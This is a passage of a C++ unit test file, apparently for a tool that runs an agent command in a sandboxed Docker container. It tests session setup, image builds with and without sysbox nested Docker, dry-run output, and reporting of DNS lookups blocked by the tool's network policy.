  f.host.build_args = {{"BASE", "base:x"}, {"AGENT_NPM_PACKAGES", ""}};
  const CliOptions cli = parse_cli({"--no-global-config", "--no-update", "--", "make"});
  const MergedConfig merged = resolve_config(cli, f.host, SessionIo{f.out, f.err, f.in});
  const PreparedSession p = prepare_session(cli, f.host, merged, EngineFacts{true, "", false}, SessionIo{f.out, f.err, f.in});
  CHECK(p.id.size() == 12);
  CHECK(p.run.container_name == "cagent-" + p.id);
  CHECK(p.session_dir == f.host.cagent_home / "sessions" / p.id);
  CHECK(p.log_dir == f.host.cagent_home / "logs" / ("session-" + p.id));
  CHECK(p.run.policy_file == p.session_dir / "policy.toml");
  CHECK(p.run.command == std::vector<std::string>{"make"});
  CHECK_FALSE(p.run.sysbox);  // the engine has no sysbox-runc
  REQUIRE(p.image.context);
  CHECK(*p.image.context == f.t / "ctx");
  CHECK(p.image.build_args == f.host.build_args);
  CHECK_FALSE(p.image.check_for_update);
  CHECK_FALSE(fs::exists(p.session_dir));
  CHECK_FALSE(fs::exists(p.log_dir));
  CHECK(f.runner.calls.empty());
}

TEST_CASE("stages: the engine is asked before planning: start builds the image and creates the log dir") {
  SessionFixture f;
  f.runtimes = "{\"sysbox-runc\":{}}";
  const CliOptions cli = parse_cli({"--no-global-config", "--no-update"});
  const SessionIo io{f.out, f.err, f.in};
  const EngineFacts engine = probe_engine(f.runner, f.host);
  CHECK(engine.reachable);
  CHECK(engine.sysbox);
  PreparedSession p = prepare_session(cli, f.host, resolve_config(cli, f.host, io), engine, io);
  CHECK(p.run.sysbox);  // the plan is complete before anything starts
  const auto planned = render_run_argv(p.run);
  start_session(p, f.host, f.runner, io);
  CHECK(render_run_argv(p.run) == planned);  // and nothing changes it afterwards
  CHECK(f.runner.called_with_prefix({"docker", "build"}));
  CHECK(f.err.str().find("cagent: building image") != std::string::npos);
  CHECK(fs::is_directory(p.log_dir));
  CHECK(f.runner.foreground_argv.empty());  // nothing runs yet
}

TEST_CASE("stages: summarize maps the outcome to the exit status") {
  SessionFixture f;
  const SessionIo io{f.out, f.err, f.in};
  const fs::path logs = f.t.dir("logs");
  CHECK(summarize_session(SessionOutcome{3, false, SIGTERM}, logs, io) == 3);
  CHECK(f.err.str().empty());
  CHECK(summarize_session(SessionOutcome{kExitDocker, false, SIGTERM}, logs, io) == kExitDocker);
  CHECK(f.err.str().find("docker run failed (exit 125") != std::string::npos);
  f.err.str("");
  CHECK(summarize_session(SessionOutcome{137, true, SIGHUP}, logs, io) == 128 + SIGHUP);
  CHECK(f.err.str() == "cagent: session stopped\n");
  f.err.str("");
  // Only dnsguard's record counts; its human log is not read.
  write_file(logs / "dnsguard.log", "denied name=pypi.org type=A client=127.0.0.1\n", 0644);
  CHECK(summarize_session(SessionOutcome{0, false, SIGTERM}, logs, io) == 0);
  CHECK(f.err.str().empty());
  write_file(logs / "decisions.json",
             "{\"version\":1,\"updated\":1,\"denied_total\":1,\"denied_unlisted\":0,\"denied\":["
             "{\"name\":\"pypi.org\",\"type\":1,\"count\":1,\"first\":1,\"last\":1}],"
             "\"gate_refused_total\":0,\"gate_refused_unlisted\":0,\"gate_refused\":[]}\n",
             0644);
  CHECK(summarize_session(SessionOutcome{0, false, SIGTERM}, logs, io) == 0);
  CHECK(f.err.str() == "cagent: blocked 1 lookup: pypi.org \xE2\x80\x94 add to domains in .cagent.yaml to allow\n");
  // A record it cannot read is said (silence would read as "nothing blocked").
  f.err.str("");
  write_file(logs / "decisions.json", "{\"version\":2}\n", 0644);
  CHECK(summarize_session(SessionOutcome{0, false, SIGTERM}, logs, io) == 0);
  CHECK(f.err.str().rfind("cagent: cannot summarize what was blocked: " + (logs / "decisions.json").string() +
                          ": version 2 not understood (this build reads version 1)\n", 0) == 0);
}

TEST_CASE("stages: dry-run prints the build and run commands of the prepared session") {
  SessionFixture f;
  const CliOptions cli = parse_cli({"--dry-run", "--no-global-config", "--", "true"});
  const SessionIo io{f.out, f.err, f.in};
  const EngineFacts engine{true, "", false};
  PreparedSession p = prepare_session(cli, f.host, resolve_config(cli, f.host, io), engine, io);
  std::ostringstream out;
  print_dry_run(p, engine, out);
  CHECK(out.str().find("docker build -f ") != std::string::npos);
  CHECK(out.str().find("--name cagent-" + p.id) != std::string::npos);
  CHECK(out.str().find("# cannot reach") == std::string::npos);
  p.image.context.reset();
  std::ostringstream no_context;
  print_dry_run(p, engine, no_context);
  CHECK(no_context.str().find("docker build") == std::string::npos);
  CHECK(no_context.str().find("docker run ") != std::string::npos);
}

namespace {

const std::vector<std::string>* build_call(const SessionFixture& f) {
  for (const auto& c : f.runner.calls) {
    if (c.size() > 1 && c[0] == "docker" && c[1] == "build") return &c;
  }
  return nullptr;
}

}  // namespace

TEST_CASE("session: with sysbox, the NESTED_DOCKER image variant and cage-init's engine: without, neither") {
  for (const bool sysbox : {true, false}) {
    CAPTURE(sysbox);
    SessionFixture f;
    f.runtimes = sysbox ? "{\"runc\":{},\"sysbox-runc\":{}}" : "{\"runc\":{}}";
    CHECK(f.run({"--", "true"}) == 0);
    const auto* build = build_call(f);
    REQUIRE(build != nullptr);
    CHECK(contains(*build, "NESTED_DOCKER=1") == sysbox);
    const auto& argv = f.runner.foreground_argv;
    CHECK(contains(argv, "--nested-docker") == sysbox);
    CHECK(contains(argv, "/usr/sbin/dockerd") == sysbox);
    CHECK(contains(argv, "net.ipv4.ip_forward=1") == sysbox);
    CHECK(contains(argv, "sysbox-runc") == sysbox);
    // cage-init's option comes after the image (the entrypoint's arguments),
    // before the command.
    if (sysbox) {
      const auto image = std::find(argv.begin(), argv.end(), f.host.image);
      const auto nested = std::find(argv.begin(), argv.end(), "--nested-docker");
      const auto dashes = std::find(image, argv.end(), "--");
      CHECK(image < nested);
      CHECK(nested < dashes);
    }
  }
}

TEST_CASE("image: NESTED_DOCKER changes the context hash (its own ctx tag): without it the args are the default's") {
  const BuildArgs base = default_build_args(std::nullopt, std::nullopt);
  const BuildArgs nested = with_nested_docker(base);
  CHECK(nested.size() == base.size() + 1);
  CHECK(nested.back() == std::pair<std::string, std::string>{"NESTED_DOCKER", "1"});
  TempDir t;
  t.file("image/Dockerfile", "FROM x\n");
  const auto files = context_files(t.path());
  CHECK(context_hash(t.path(), files, base, "") != context_hash(t.path(), files, nested, ""));
  CHECK(set_tag("cagent:latest", context_hash(t.path(), files, base, "")) !=
        set_tag("cagent:latest", context_hash(t.path(), files, nested, "")));
}

TEST_CASE("session: the scan is waited for before an image build, so its warnings come before the build's line") {
  SessionFixture f;
  f.t.file("ws/sub/.git", "nonsense\n");  // a .git file the scan refuses, with a warning
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  const std::string err = f.err.str();
  const std::size_t warning = err.find("not a 'gitdir: PATH' file");
  const std::size_t building = err.find("building image");
  REQUIRE(warning != std::string::npos);
  REQUIRE(building != std::string::npos);  // the fixture's engine has no image: a build
  CHECK(warning < building);
  CHECK(f.runner.called_with_prefix({"docker", "build"}));
}
